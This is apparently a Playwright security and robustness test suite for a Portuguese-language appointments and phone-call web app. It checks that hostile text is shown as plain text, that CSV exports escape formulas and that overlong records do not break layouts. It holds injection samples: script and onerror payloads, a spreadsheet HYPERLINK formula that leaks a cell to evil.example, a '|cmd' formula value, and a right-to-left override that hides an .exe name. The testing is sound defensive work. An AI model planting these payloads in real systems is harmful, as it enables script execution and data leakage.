import { demoLinks } from '@mocks/seed/accounts';
import papaparse from 'papaparse';
import type { Locator, Page } from '@playwright/test';
import { addDays, formatDate, today } from '@/formats/dates';
import { addAppointment, addCall } from './support/api';
import { resize } from './support/accessibility';
import { onCall, type Call } from './support/faults';
import { downloadText, expect, test } from './support/fixtures';
import { modules, openFirst, openModule } from './support/modules';
import {
  choose,
  desk,
  fill,
  filterBy,
  noticedReference,
  openAppointments,
  openCalls,
  panel,
  phone,
} from './support/steps';

/* What people type, or old records hold, is text everywhere: on the screen, on paper and in a spreadsheet. */

const markup = '<img src=x onerror="alert(1)"><script>alert(2)</script>';
const formula = '=HYPERLINK("http://evil.example?"&A1;"clique")';
/** Shown as written, the end would read backwards: "exe.gpj". */
const override = 'nota\u202Egpj.exe';
const emoji = '👩🏽‍⚖️🏳️‍🌈 Ñandú é ﷽';
const endless = 'x'.repeat(10_000);

test.beforeEach(({ page }) => {
  page.on('dialog', (dialog) => {
    throw new Error(`A script ran: ${dialog.message()}`);
  });
});

/** Nothing of the text has become part of the page. */
async function expectOnlyText(page: Page) {
  await expect(
    page.locator('img, iframe, object, embed, script:not([src]), [onerror], [onload]'),
  ).toHaveCount(0);
  await expect(page.locator('[href^="javascript:" i]')).toHaveCount(0);
}

const overflow = (page: Page) =>
  page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);

async function csvOf(page: Page): Promise<string[][]> {
  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download Excel (.csv)' }).click();
  const text = await downloadText(await downloading);
  return papaparse.parse<string[]>(text.slice(1), { delimiter: ';', newline: '\r\n' }).data;
}

test('an appointment typed with hostile content in every field', async ({
  page,
  context,
  signIn,
}, testInfo) => {
  await signIn(page);
  const table = await openAppointments(page);
  await page.getByRole('button', { name: 'Novo', exact: true }).click();
  const form = panel(page, 'Novo compromisso');
  const description = `${formula}\n${markup}\n${override}\n${emoji}`.padEnd(800, 'ç');
  const typed = {
    Assunto: '=1+1<b onclick=alert(1)>"\'; --',
    Local: markup,
    'Nome do solicitante': '@SUM(A1:A9)',
    Descrição: description,
  };
  await fill(form, typed);
  await choose(form, 'Horário de início', '09:00');
  await choose(form, 'Horário de término', '10:00');
  await form.getByRole('button', { name: 'Salvar' }).click();
  const reference = await noticedReference(page, /^O compromisso AG-\d+ foi criado!$/);

  await filterBy(page, 'Filtrar compromissos', { Assunto: typed.Assunto, Referência: reference });
  await expect(table.getByRole('cell', { name: typed.Assunto, exact: true })).toBeVisible();
  await expect(page.getByRole('button', { name: `Remover filtro Assunto: ${typed.Assunto}` })).toBeVisible();
  await expectOnlyText(page);

  expect(await csvOf(page)).toEqual([
    ['Ref.', 'Assunto', 'Data Início', 'Data Fim', 'Descrição', 'Local'],
    [
      reference,
      `'${typed.Assunto}`,
      `${formatDate(today())} 09:00`,
      `${formatDate(today())} 10:00`,
      `'${description}`,
      markup,
    ],
  ]);

  const printing = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Imprimir resultados' }).click();
  const path = testInfo.outputPath('compromissos.html');
  await (await printing).saveAs(path);
  const sheet = await context.newPage();
  await sheet.goto(`file://${path}`);
  await expect(sheet.getByRole('cell').last()).toHaveText(typed.Assunto);
  await expectOnlyText(sheet);
  await sheet.close();

  await table.getByRole('button', { name: reference, exact: true }).click();
  const details = panel(page, `Compromisso ${reference}`);
  for (const text of Object.values(typed)) {
    await expect(
      details.getByRole('definition').filter({ hasText: text.split('\n')[0] ?? '' }),
    ).not.toHaveCount(0);
  }
  await expect(details.getByText(description)).toBeVisible();
  await expectOnlyText(page);
  const link = await details.getByRole('link', { name: /\/appointment\// }).getAttribute('href');
  await page.goto(link ?? '');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(typed.Assunto);
  await expect(page).toHaveTitle(new RegExp('^=1\\+1<b onclick'));
  await expect(page.getByText(description)).toBeVisible();
  await expectOnlyText(page);
  const map = new URL((await page.getByRole('link', { name: /^Ver no mapa/ }).getAttribute('href')) ?? '');
  expect(map.origin).toBe('https://www.google.com');
  expect(map.searchParams.get('query')).toBe(markup);
});

test('a call typed with hostile content in every field', async ({ page, signIn }) => {
  await signIn(page);
  const name = `${formula} ${markup}`;
  const subject = `-1+1|cmd\n${markup}\n${override} ${emoji}`.padEnd(2000, 'é');
  const reference = await addCall(page, { date: today(), name, subject });
  const table = await openCalls(page);
  await filterBy(page, 'Filtrar ligações', { Referência: reference, Nome: markup });
  await expect(table.getByText(name)).toBeVisible();
  await expectOnlyText(page);
  const [, line] = await csvOf(page);
  expect(line?.slice(0, 2)).toEqual([reference, `'${subject.replaceAll('\n', ' ')}`]);
  expect(line?.[4]).toBe(`'${name}`);
  await table.getByRole('button', { name: reference, exact: true }).click();
  await expect(panel(page, `Ligação ${reference}`).getByText(subject)).toBeVisible();
  await expectOnlyText(page);
});

/** The texts of a module's answers, each longer than any form lets through. */
const overlong: Record<string, object> = {
  '/appointments/list': {
    subject: `${markup} ${endless}`,
    location: endless,
    description: `${override}\n${endless}`,
    requester: { name: endless, telephone: '9'.repeat(500) },
  },
  '/phonecalls/list': {
    name: endless,
    createdBy: endless,
    subject: endless,
    telephone: '9'.repeat(500),
    statusName: endless,
  },
  '/services/list': {
    description: `${markup} ${endless}`,
    statusName: endless,
    electorName: endless,
    categoryName: endless,
    originName: endless,
    officeName: endless,
  },
  '/voters/list': {
    name: `${markup} ${endless}`,
    email: endless,
    mail: endless,
    formattedAddress: endless,
    districtAndCity: endless,
    professionName: endless,
    note: `${override}\n${endless}`,
  },
};

const longer = (page: Page, call: Call, fields: object) =>
  onCall(page, call, async (route) => {
    const response = await route.fetch();
    const reply = (await response.json()) as { data?: object[] };
    const json = reply.data
      ? { ...reply, data: reply.data.map((row) => ({ ...row, ...fields })) }
      : { ...reply, ...fields };
    await route.fulfill({ json });
  });

/** At a desk, then on a phone. */
async function expectNoOverflow(page: Page, part: Locator) {
  for (const size of [desk, phone.viewport]) {
    await resize(page, size);
    expect(await overflow(page)).toBe(0);
    expect(await part.evaluate((element) => element.scrollWidth - element.clientWidth)).toBe(0);
  }
  await resize(page, desk);
  await expectOnlyText(page);
}

test('records longer than any form lets through break no screen', async ({ page, signIn }) => {
  await signIn(page);
  for (const module of modules) {
    const fields = overlong[module.path];
    expect(fields, `texts for ${module.path}`).toBeDefined();
    await longer(page, module.search, fields ?? {});
    await longer(page, module.read, fields ?? {});
    const table = await openModule(page, module);
    await expectNoOverflow(page, page.getByRole('main'));
    await openFirst(table);
    const details = page.getByRole('dialog');
    await expect(details.getByText(endless).first()).toBeVisible();
    await expectNoOverflow(page, details);
    await page.keyboard.press('Escape');
  }
  await longer(
    page,
    { script: 'compromisso.public.php', action: 'getDetails' },
    overlong['/appointments/list'] ?? {},
  );
  await page.goto(`/appointment/${demoLinks.activeAppointment}`);
  await expect(page.getByRole('heading', { level: 1 })).toContainText(markup);
  await expectNoOverflow(page, page.getByRole('main'));
});

test('a name in another direction moves nothing around it', async ({ page, context, signIn }, testInfo) => {
  await signIn(page);
  const subject = `Reunião \u2067${override}`.slice(0, 60);
  const reference = await addAppointment(page, { date: addDays(today(), 1), subject });
  await openAppointments(page);
  await filterBy(page, 'Filtrar compromissos', { Referência: reference });
  const printing = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Imprimir resultados' }).click();
  const path = testInfo.outputPath('compromissos.html');
  await (await printing).saveAs(path);
  const sheet = await context.newPage();
  await sheet.goto(`file://${path}`);
  // On paper nobody can look at what a text is made of: marks that reverse it are left out.
  await expect(sheet.getByRole('cell').last()).toHaveText('Reunião notagpj.exe');
});
